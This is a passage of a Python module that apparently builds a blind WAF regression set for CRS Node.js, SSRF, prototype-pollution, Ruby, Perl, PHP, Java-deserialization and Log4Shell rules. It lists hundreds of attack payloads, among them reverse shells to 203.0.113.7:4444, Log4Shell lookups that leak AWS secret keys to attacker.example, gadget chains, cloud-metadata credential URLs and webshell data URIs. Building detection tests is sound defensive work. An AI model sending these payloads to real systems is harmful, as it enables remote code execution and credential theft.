"""Blind set "ninetysecond": the positive regression tests a ninth rule author writes from the titles alone,
for the generic (934), Java (944) and server-side template injection families, with benign requests that carry
the same words innocently.

The angle: for each detection title (CRS 3.3.4 request rules 934100, 944100, 944110, 944120, 944130, 944200,
944210, 944240, 944250, and the later 4.x titles: Node.js injection 1/2 and 2/2, SSRF through cloud metadata
URLs and through IP-address URLs, prototype pollution, Ruby, Perl, Node.js DoS, PHP data scheme, Log4Shell,
class-loading payloads, Java script file upload, suspicious Java method) the canonical attack the title names,
one test per alternative its family covers, and the variants a rule must still catch (quoting, casing,
whitespace, concatenation, URL and double URL encoding, HTML entities, JSON unicode escapes). Server-side
template injection adds one sub-family per engine (Jinja2, Twig, Freemarker, Velocity, Thymeleaf, ERB,
Smarty, Handlebars, Pug).

Families and sub-families (one sub-family per title):
  generic: nodejs-injection, nodejs-injection-2-2, nodejs-dos, ssrf-cloud-metadata, ssrf-ip-address,
           prototype-pollution, ruby-injection, perl-injection, php-data-scheme
  java:    java-suspicious-class-rce, java-process-spawn, java-serialization-rce, java-suspicious-class,
           java-magic-bytes, java-magic-bytes-base64, java-serialization-pl2, java-suspicious-method,
           log4j-log4shell, java-class-loading, java-script-upload
  ssti:    ssti-jinja2, ssti-twig, ssti-freemarker, ssti-velocity, ssti-thymeleaf, ssti-erb, ssti-smarty,
           ssti-handlebars, ssti-pug

Placements: every payload is sent twice. Once to our real routes (query of /api/users, form of
/admin/users/search with csrf_token, JSON of /api/users, cookie, User-Agent, Referer, another header, a
parameter name, an XML body, a multipart field or file name, the URL path), once the way a WAF regression
suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post,
/search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names, as a query string, a form body, a
JSON body, an XML body, a raw form-typed body that is not key=value, or in the User-Agent, Referer, a custom
header or a cookie. Payloads that only make sense already URL-encoded (binary Java streams) go where a server
URL-decodes them; whole documents (XStream XML, JSON objects) go as bodies; query fragments (prototype
pollution, class-loader binding) go as parameter names; file names go as multipart file names, an upload
header or a PUT path.

Authorship and independence: every payload and every benign text was written from general knowledge of each
family and from the rule titles alone; no ruleset, rule regression test, payload list or other blind set was
read. The set was measured once, on unchanged code, and not changed after seeing what the WAF blocks or
misses. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "ninetysecond"

# Entry kinds: a plain string is a value; a tuple (kind, payload) is one of these.
PRE = "pre"        # already URL-encoded as it travels (a server decodes it once)
JU = "jsonu"       # the inside of a JSON string, with \\u escapes as sent
XB = "xml-body"    # a whole XML document or element
JB = "json-body"   # a whole JSON document
QS = "qs"          # a query fragment: name=value, the attack in the name
FN = "filename"    # an uploaded file's name

Entry = str | tuple[str, str]

# ---------------------------------------------------------------------------------------------------- generic
NODEJS_INJECTION: list[Entry] = [
    "require('child_process').exec('cat /etc/passwd')",
    "require(\"child_process\").execSync(\"id\").toString()",
    "require('child_process').spawn('/bin/sh', ['-c', 'id'])",
    "require('child_process').execFile('curl', ['http://attacker.example/x.sh'])",
    "require('child_process').fork('/tmp/x.js')",
    "require('child_process').spawnSync('ls', ['-la', '/'])",
    "process.mainModule.require('child_process').execSync('whoami')",
    "global.process.mainModule.constructor._load('child_process').exec('id')",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "_$$ND_FUNC$$_function(){require('child_process').exec('ping -c1 attacker.example')}()",
    ("json-body", '{"username":"_$$ND_FUNC$$_function (){require(\\"child_process\\").exec(\\"id\\", '
                  'function(e,o){console.log(o)});}()"}'),
    "require ( 'child_process' ) . exec ( 'id' )",
    "require('child_'+'process')['ex'+'ec']('id')",
    "REQUIRE('CHILD_PROCESS').EXEC('ID')",
    "require('\\u0063hild_process').exec('id')",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:true}]})",
    "require/**/('child_process')/**/.exec('id')",
    (PRE, "require%28%27child_process%27%29.exec%28%27id%27%29"),
    (PRE, "require%2528%2527child_process%2527%2529.exec%2528%2527id%2527%2529"),
    (JU, "require(\\u0027child_process\\u0027).exec(\\u0027id\\u0027)"),
    "require(&#39;child_process&#39;).exec(&#39;id&#39;)",
]

NODEJS_INJECTION_2: list[Entry] = [
    "eval(\"process.exit(1)\")",
    "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=','base64').toString())",
    "new Function('return this.process')().exit()",
    "Function(\"return process\")().env",
    "setTimeout(\"require('fs').writeFileSync('/tmp/x','y')\", 0)",
    "setInterval('process.kill(process.pid)', 1000)",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')",
    "require('fs').readFileSync('/etc/passwd', 'utf8')",
    "require('fs').writeFileSync('/var/www/html/s.js', 'module.exports=1')",
    "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);"
    "var c=new net.Socket();c.connect(4444,'203.0.113.7',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);"
    "sh.stderr.pipe(c);});return /a/;})();",
    "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,102,115,39,41))",
    "res.end(JSON.stringify(process.env))",
    "1;return require('os').hostname()//",
    "import('child_process').then(cp => cp.execSync('id'))",
    "global['ev'+'al']('process.exit()')",
    (JU, "\\u0065val(\\u0022process.exit()\\u0022)"),
]

NODEJS_DOS: list[Entry] = [
    "while(true){}",
    "while (1) {}",
    "for(;;){}",
    "while(!0);",
    "do{}while(true)",
    "for(;true;){}",
    "setInterval(function(){while(1){}},1)",
    "'a'.repeat(2**30)",
    "new Array(1e9).fill(0)",
    "process.exit()",
    "process.kill(process.pid, 'SIGKILL')",
    "while(true)Array(1e6).join('x')",
    "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')",
    ("json-body", '{"$where": "while(true){}"}'),
    "WHILE ( TRUE ) { }",
    (PRE, "while%28true%29%7B%7D"),
    (JU, "while\\u0028true\\u0029\\u007b\\u007d"),
]

SSRF_METADATA: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-default-role",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/api/token",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1beta1/project/project-id",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
    "http://instance-data/latest/meta-data/hostname",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "HTTP://METADATA.GOOGLE.INTERNAL/computeMetadata/v1/",
    (PRE, "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    (PRE, "http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data%252F"),
]

SSRF_IP: list[Entry] = [
    "http://127.0.0.1/admin",
    "http://10.0.0.1:8080/",
    "https://192.168.0.1/cgi-bin/luci",
    "http://172.17.0.1:2375/containers/json",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.01/",
    "http://0x7f.0.0.1/",
    "http://127.1/server-status",
    "http://[::1]:8080/",
    "http://[::ffff:127.0.0.1]/",
    "http://[0:0:0:0:0:ffff:7f00:1]/",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "dict://10.0.0.5:11211/stat",
    "ftp://192.168.1.10/pub/",
    "http://user@127.0.0.1:22/",
    "https://198.51.100.23/payload.sh",
    "ldap://10.1.1.1:389/dc=corp",
    "http://0.0.0.0:9200/_cat/indices",
    (PRE, "http%3A%2F%2F127.0.0.1%3A8080%2Fmanager%2Fhtml"),
]

PROTOTYPE_POLLUTION: list[Entry] = [
    (QS, "__proto__[isAdmin]=true"),
    (QS, "__proto__.polluted=1"),
    (QS, "constructor[prototype][admin]=1"),
    (QS, "constructor.prototype.role=admin"),
    (QS, "a[__proto__][b]=c"),
    (QS, "user[constructor][prototype][isAdmin]=true"),
    (QS, "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    (QS, "%5F%5Fproto%5F%5F[admin]=1"),
    (QS, "__pro__proto__to__[x]=1"),
    (QS, "__proto__[toString]=x"),
    (QS, "filter%5B__proto__%5D%5Bvalue%5D=1"),
    (JB, '{"__proto__":{"isAdmin":true}}'),
    (JB, '{"constructor":{"prototype":{"polluted":"yes"}}}'),
    (JB, '{"user":{"__proto__":{"role":"admin"}}}'),
    (JB, '{"\\u005f\\u005fproto\\u005f\\u005f":{"admin":true}}'),
    (JB, '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\')'
         '.execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}'),
    (JB, '{"a":{"__proto__":{"sourceURL":"\\nreturn process.mainModule.require(\'child_process\')'
         '.execSync(\'id\')//"}}}'),
    "obj.__proto__.isAdmin = true",
    "Object.prototype.polluted = 'yes'",
]

RUBY_INJECTION: list[Entry] = [
    "Kernel.exec('id')",
    "Kernel.system(\"cat /etc/passwd\")",
    "%x(id)",
    "%x{cat /etc/passwd}",
    "IO.popen('id').read",
    "Open3.capture2('whoami')",
    "eval(\"system('id')\")",
    "Object.instance_eval('system(\"id\")')",
    "Kernel.send(:exec, 'id')",
    "Kernel.open('|id').read",
    "open(\"|cat /etc/passwd\").read",
    "Process.spawn('nc -e /bin/sh 203.0.113.7 4444')",
    "File.read('/etc/passwd')",
    "method(:system).call('id')",
    "--- !ruby/object:Gem::Installer\ni: x\n",
    "!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection",
    "Kernel . system ( 'id' )",
    (PRE, "Kernel.exec%28%27id%27%29"),
]

PERL_INJECTION: list[Entry] = [
    "@{[system \"id\"]}",
    "@{[ `cat /etc/passwd` ]}",
    "${\\`id`}",
    "qx{id}",
    "qx(cat /etc/passwd)",
    "system(\"id\");",
    "exec('/bin/sh -i');",
    "open(my $fh, \"|id\");",
    "open(F, \"cat /etc/passwd|\"); print <F>;",
    "|cat /etc/passwd|",
    "eval{system(\"id\")}",
    "eval \"system('id')\"",
    "use IO::Socket;$c=IO::Socket::INET->new(\"203.0.113.7:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);"
    "system$_ while<>;",
    ";print qx(id);",
    "@{[ SYSTEM \"ID\" ]}",
    (PRE, "%40%7B%5Bsystem%20%22id%22%5D%7D"),
    "perl -e 'print `id`'",
]

PHP_DATA_SCHEME: list[Entry] = [
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
    "data://text/plain,<?php phpinfo();?>",
    "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data:;base64,PD9waHAgZWNobyAxOz8+",
    "DATA://TEXT/PLAIN;BASE64,PD9waHAgcGFzc3RocnUoJ2lkJyk7Pz4=",
    "data://text/plain;charset=utf-8;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
    "data:application/x-httpd-php;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data:text/html,<script>alert(document.domain)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data://text/plain,<?=`id`?>",
    "data:,<?php system('id');",
    "data:text/plain,<?php echo shell_exec($_GET['c']);?>",
    (PRE, "data%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHAgcGhwaW5mbygpOz8%2B"),
    (PRE, "data%253A%252F%252Ftext%252Fplain%252C%253C%253Fphp%2520phpinfo%2528%2529%253B%253F%253E"),
    (JU, "data:\\u002f\\u002ftext/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"),
]

# ------------------------------------------------------------------------------------------------------- java
JAVA_CLASS_RCE: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "new java.lang.ProcessBuilder(new String[]{\"/bin/sh\",\"-c\",\"id\"}).start()",
    "@java.lang.Runtime@getRuntime().exec('id')",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    (XB, "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\">"
         "<void index=\"0\"><string>calc</string></void></array><void method=\"start\"/></object></java>"),
    "JAVA.LANG.RUNTIME.getRuntime().exec(\"whoami\")",
    "Ljava/lang/Runtime;",
    "java.lang.ProcessImpl.start(cmd, null, null, null, false)",
    "java.lang.UNIXProcess",
    "Class.forName(\"java.lang.Runtime\")",
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethods()[6].invoke(null)}",
    "%{(#r=@java.lang.Runtime@getRuntime()).(#r.exec('id'))}",
    (XB, "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>"),
    (PRE, "java%2elang%2eRuntime%2egetRuntime%28%29%2eexec%28%27id%27%29"),
    (PRE, "java%252elang%252eProcessBuilder"),
    (JU, "java\\u002elang\\u002eRuntime"),
    "java.lang.Runtime /* x */ .getRuntime().exec('id')",
]

XSTREAM_9805 = (
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal"
    ".bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding"
    ".xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto"
    ".NullCipher\"><initialized>false</initialized><opmode>0</opmode><serviceIterator class=\"javax.imageio.spi"
    ".FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections"
    "$EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\"><command><string>touch</string><string>"
    "/tmp/pwned</string></command><redirectErrorStream>false</redirectErrorStream></next></iter><filter "
    "class=\"javax.imageio.ImageIO$ContainsFilter\"><method><class>java.lang.ProcessBuilder</class><name>start"
    "</name><parameter-types/></method><name>foo</name></filter><next class=\"string\">foo</next>"
    "</serviceIterator><lock/></cipher><input class=\"java.lang.ProcessBuilder$NullInputStream\"/><ibuffer>"
    "</ibuffer><done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is><consumed>"
    "false</consumed></dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen></value>"
    "</jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects.NativeString "
    "reference=\"../jdk.nashorn.internal.objects.NativeString\"/></entry><entry><jdk.nashorn.internal.objects"
    ".NativeString reference=\"../../entry/jdk.nashorn.internal.objects.NativeString\"/><jdk.nashorn.internal"
    ".objects.NativeString reference=\"../../entry/jdk.nashorn.internal.objects.NativeString\"/></entry></map>"
)

JAVA_PROCESS_SPAWN: list[Entry] = [
    (XB, XSTREAM_9805),
    (XB, "<next class=\"java.lang.ProcessBuilder\"><command><string>id</string></command>"
         "<redirectErrorStream>false</redirectErrorStream></next>"),
    (XB, "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler "
         "class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>calc.exe"
         "</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    "new ProcessBuilder(\"bash\",\"-c\",\"id\").start()",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"})",
    "java.lang.Runtime.getRuntime().exec(request.getParameter(\"cmd\"))",
    "ProcessBuilder pb = new ProcessBuilder(cmd); pb.redirectErrorStream(true); Process p = pb.start();",
    "<value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler>"
    "<next class=\"java.lang.ProcessBuilder\">",
    (XB, "<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id"
         "</string></void></object></java>"),
    (XB, "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
         "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java><void class=\"java.lang"
         ".ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/sh"
         "</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string>"
         "</void></array><void method=\"start\"/></void></java></work:WorkContext></soapenv:Header>"
         "<soapenv:Body/></soapenv:Envelope>"),
    "java.lang.processbuilder(\"id\").START()",
    "javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    (PRE, "%3Cnext%20class%3D%22java.lang.ProcessBuilder%22%3E%3Ccommand%3E%3Cstring%3Eid%3C%2Fstring%3E"
          "%3C%2Fcommand%3E%3C%2Fnext%3E"),
    "new\tProcessBuilder(\"sh\")\n.start()",
]

JAVA_SERIAL_RCE: list[Entry] = [
    "org.apache.commons.collections.functors.ChainedTransformer[ConstantTransformer(java.lang.Runtime), "
    "InvokerTransformer(getMethod), InvokerTransformer(invoke), InvokerTransformer(exec, \"id\")]",
    "org.apache.commons.collections4.functors.InstantiateTransformer com.sun.org.apache.xalan.internal.xsltc"
    ".trax.TrAXFilter java.lang.Runtime",
    (XB, "<org.apache.commons.collections.functors.ChainedTransformer><iTransformers><org.apache.commons"
         ".collections.functors.ConstantTransformer><iConstant class=\"java-class\">java.lang.Runtime</iConstant>"
         "</org.apache.commons.collections.functors.ConstantTransformer><org.apache.commons.collections.functors"
         ".InvokerTransformer><iMethodName>exec</iMethodName><iArgs><string>id</string></iArgs>"
         "</org.apache.commons.collections.functors.InvokerTransformer></iTransformers>"
         "</org.apache.commons.collections.functors.ChainedTransformer>"),
    "org.apache.commons.collections.functors.InstantiateFactory java.lang.ProcessBuilder",
    "org.apache.commons.collections.functors.PrototypeFactory$PrototypeCloneFactory java.lang.Runtime",
    "org.apache.commons.collections.functors.PrototypeFactory$PrototypeSerializationFactory java.lang.Runtime",
    "org.apache.commons.collections.functors.WhileClosure Runtime.getRuntime().exec",
    "org.apache.commons.collections.functors.ForClosure new java.lang.ProcessBuilder(\"id\")",
    "java.beans.XMLDecoder java.lang.ProcessBuilder start",
    "org.apache.commons.collections.functors.CloneTransformer java.lang.ProcessBuilder",
    "new java.io.FileWriter(\"/usr/local/tomcat/webapps/ROOT/x.jsp\") Runtime.getRuntime().exec(request"
    ".getParameter(\"c\"))",
    "System.getProperty(\"os.name\") org.apache.commons.collections.functors.InvokerTransformer java.lang.Runtime",
    (PRE, "%AC%ED%00%05sr%00%3Aorg.apache.commons.collections.functors.InvokerTransformer%87%E8%FFk%7B%7C%CE8"
          "%02%00%03%5B%00%05iArgst%00%13%5BLjava%2Flang%2FObject%3BL%00%0BiMethodNamet%00%12Ljava%2Flang%2F"
          "String%3Bxpt%00%04exec%00java%2Flang%2FRuntime"),
    "ORG.APACHE.COMMONS.COLLECTIONS.FUNCTORS.INVOKERTRANSFORMER java.lang.RUNTIME",
    (JU, "org.apache.commons.collections.functors.InvokerTransformer\\u0020java.lang.Runtime"),
]

JAVA_SUSPICIOUS_CLASS: list[Entry] = [
    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#w=#context.get(\"com.opensymphony.xwork2"
    ".dispatcher.HttpServletResponse\").getWriter()).(#w.print(\"pwn\")).(#w.close())}",
    "%{#a=(new java.io.BufferedReader(new java.io.InputStreamReader(#p.getInputStream())))}",
    "${new java.io.File(\"/etc/passwd\").exists()}",
    "new java.io.FileOutputStream(\"/usr/local/tomcat/webapps/ROOT/cmd.jsp\")",
    "T(java.lang.System).getenv()",
    "${T(java.lang.Class).forName('java.lang.Runtime')}",
    "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1+1\")",
    "java.lang.reflect.Method m = c.getMethod(\"exec\", String.class);",
    "org.apache.struts2.dispatcher.multipart.JakartaMultiPartRequest",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "org.omg.CORBA.ORB.init()",
    "java.beans.XMLDecoder",
    "new java.io.ObjectOutputStream(new java.io.ByteArrayOutputStream())",
    "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.redirectErrorStream(true)).(#process=#p.start())"
    ".(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))"
    ".(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())",
    "new java.lang.StringBuilder().append(\"x\")",
    "java.io.PrintStream",
    "JAVA.LANG.SYSTEM.exit(0)",
    (PRE, "java%2Eio%2EFileOutputStream"),
]

HASHMAP_STREAM = (
    "%AC%ED%00%05sr%00%11java.util.HashMap%05%07%DA%C1%C3%16%60%D1%03%00%02F%00%0AloadFactorI%00%09threshold"
    "xp%3F%40%00%00%00%00%00%0Cw%08%00%00%00%10%00%00%00%01t%00%01at%00%01bx"
)

JAVA_MAGIC: list[Entry] = [
    (PRE, HASHMAP_STREAM),
    (PRE, "%ac%ed%00%05sr%002sun.reflect.annotation.AnnotationInvocationHandlerU%ca%f5%0f%15%cb%7e%a5%02"),
    (PRE, "%AC%ED%00%05ur%00%13%5BLjava.lang.Object%3B%90%CEX%9F%10s%29l%02%00%00xp%00%00%00%01"),
    (PRE, "%AC%ED%00%05t%00%04test"),
    (PRE, "%AC%ED%00%05w%04%00%00%00%01"),
    (PRE, "%AC%ED%00%05sr%00%0Ejava.lang.Long%3B%8B%E4%90%CC%8F%23%DF%02%00%01J%00%05valuexr%00%10java.lang"
          ".Number%86%AC%95%1D%0B%94%E0%8B%02%00%00xp%00%00%00%00%00%00%00%01"),
    (PRE, "%25AC%25ED%2500%2505sr%2500%2511java.util.HashMap"),
    (PRE, "%AC%ED%00%05sr%00%17java.util.PriorityQueue%94%DA0%B4%FB%3F%82%B1%03%00%02I%00%04size"),
    (JU, "\\u00ac\\u00ed\\u0000\\u0005sr\\u0000\\u0011java.util.HashMap"),
    "aced0005737200116a6176612e7574696c2e486173684d61700507dac1c31660d103000246000a6c6f6164466163746f72",
    "ACED00057372001F636F6D2E73756E2E726F777365742E4A646263526F77536574496D706C",
    "\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashMap",
    "0xaced0005",
]

JAVA_MAGIC_B64: list[Entry] = [
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAA"
    "BdAABYXQAAWJ4",
    "rO0ABXQABHRlc3Q=",
    "rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwCAAB4cAAAAAJwdAAML2luZGV4LnhodG1s",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBh"
    "cmF0b3I7eHA=",
    "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFs"
    "dWVzdAAPTGphdmEvdXRpbC9NYXA7TAAEdHlwZXQAEUxqYXZhL2xhbmcvQ2xhc3M7eHA=",
    (PRE, "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVy"
          "VmFsdWVzdAAPTGphdmEvdXRpbC9NYXA7TAAEdHlwZXQAEUxqYXZhL2xhbmcvQ2xhc3M7eHA%3D"),
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBh"
    "cmF0b3I7eHA",
    "eKztAAVzcgARamF2YS51dGlsLkhhc2hNYXA=",
    "eHms7QAFc3IAEWphdmEudXRpbC5IYXNoTWFw",
    "data:application/x-java-serialized-object;base64,rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9h",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1h\ncAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
    (XB, "<object><value>rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==</value></object>"),
    (JB, '{"viewState":"rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwCAAB4cAAAAAJwdAAML2luZGV4LnhodG1s"}'),
    (PRE, "rO0AB%58NyABFqYXZhLnV0aWwuSGFzaE1hcA"),
]

JAVA_SERIAL_PL2: list[Entry] = [
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.apache.commons.collections.functors.ChainedTransformer",
    "org.apache.commons.collections.functors.ConstantTransformer",
    "org.apache.commons.collections4.functors.InstantiateTransformer",
    "org.apache.commons.collections.functors.InstantiateFactory",
    "org.apache.commons.collections.functors.PrototypeFactory$PrototypeCloneFactory",
    "org.apache.commons.collections.functors.PrototypeFactory$PrototypeSerializationFactory",
    "org.apache.commons.collections.functors.CloneTransformer",
    "org.apache.commons.collections.functors.ForClosure",
    "org.apache.commons.collections.functors.WhileClosure",
    "org.apache.commons.collections.keyvalue.TiedMapEntry org.apache.commons.collections.map.LazyMap",
    "java.beans.XMLDecoder",
    "java.io.FileWriter",
    (JB, '{"@class":"org.apache.commons.collections.functors.InvokerTransformer","iMethodName":"exec"}'),
    (XB, "<org.apache.commons.collections.functors.ChainedTransformer/>"),
    "ORG.APACHE.COMMONS.COLLECTIONS.FUNCTORS.INVOKERTRANSFORMER",
    (PRE, "sr%00%3Aorg.apache.commons.collections.functors.InvokerTransformer%87%E8%FFk%7B%7C%CE8"),
]

JAVA_METHOD: list[Entry] = [
    "Runtime.getRuntime().exec(\"id\")",
    "\"\".getClass().forName(\"java.lang.Runtime\")",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
    "x.getClass().getClassLoader().loadClass(\"Evil\").newInstance()",
    "f.setAccessible(true); f.get(null);",
    "c.getDeclaredConstructor().newInstance()",
    "new ObjectInputStream(request.getInputStream()).readObject()",
    "Thread.currentThread().getContextClassLoader().loadClass(\"Exploit\")",
    "m.invoke(rt, \"id\")",
    "System.exit(0)",
    "MethodHandles.lookup().defineClass(bytes)",
    "Field f = String.class.getDeclaredField(\"value\");",
    "#{session.setAttribute(\"a\",\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\")"
    ".invoke(null).exec(\"id\"))}",
    "Runtime . getRuntime ( ) . exec ( \"calc\" )",
    (PRE, "Runtime.getRuntime%28%29.exec%28%22id%22%29"),
    (JU, "Runtime.getRuntime\\u0028\\u0029.exec\\u0028\\u0022id\\u0022\\u0029"),
]

LOG4J: list[Entry] = [
    "${jndi:ldap://attacker.example:1389/a}",
    "${jndi:rmi://attacker.example:1099/Exploit}",
    "${jndi:dns://attacker.example/x}",
    "${jndi:ldaps://attacker.example/a}",
    "${jndi:iiop://attacker.example/a}",
    "${jndi:nis://attacker.example/a}",
    "${jndi:nds://attacker.example/a}",
    "${jndi:corba://attacker.example/a}",
    "${jndi:http://attacker.example/a}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}",
    "${jndi:dns://${sys:java.version}.attacker.example}",
    "${${upper:j}ndi:ldap://attacker.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
    "${${base64:JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci5leGFtcGxlL2F9}}",
    "${jndi:ldap://127.0.0.1#attacker.example:1389/a}",
    "${JNDI:LDAP://attacker.example/a}",
    (PRE, "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    (PRE, "%2524%257Bjndi%253Aldap%253A%252F%252Fattacker.example%252Fa%257D"),
    (JU, "\\u0024\\u007bjndi:ldap://attacker.example/a\\u007d"),
]

SPRING_PATTERN = (
    "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = "
    "%{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"
)

JAVA_CLASS_LOADING: list[Entry] = [
    (QS, "class.module.classLoader.resources.context.parent.pipeline.first.pattern="
         + urllib.parse.quote(SPRING_PATTERN, safe="")),
    (QS, "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
